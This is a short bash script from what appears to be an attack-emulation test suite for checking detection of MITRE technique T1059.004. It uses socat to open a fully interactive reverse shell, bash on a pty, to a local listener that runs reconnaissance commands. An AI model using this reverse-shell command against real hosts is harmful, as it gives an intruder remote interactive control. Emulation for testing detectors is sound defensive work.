#!/bin/bash
# vigil-emulation: attack
# technique: T1059.004 Command and Scripting Interpreter: Unix Shell
# tactic: execution, command-and-control
# what: socat connects to a listener on 127.0.0.1 and runs `bash -li` on a pty it drives
#   from the connection (`exec:'bash -li',pty,stderr,setsid,sigint,sane`), the fully
#   interactive reverse shell; the listener runs `id`, `ps -o pid,cmd`, `uname -a`.
# report: a reverse shell: bash on a pty driven by socat's TCP connection to 127.0.0.1:PORT.
# expect: reverse shell
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_backup "$HOME/.bash_history"  # the interactive shell appends to it
emul_need socat

emul_server shell --commands "id;ps -o pid,cmd;uname -a"
listener=$EMUL_BG_PID
timeout 30 socat "exec:bash -li,pty,stderr,setsid,sigint,sane" "tcp:127.0.0.1:$EMUL_PORT" || true
wait "$listener"
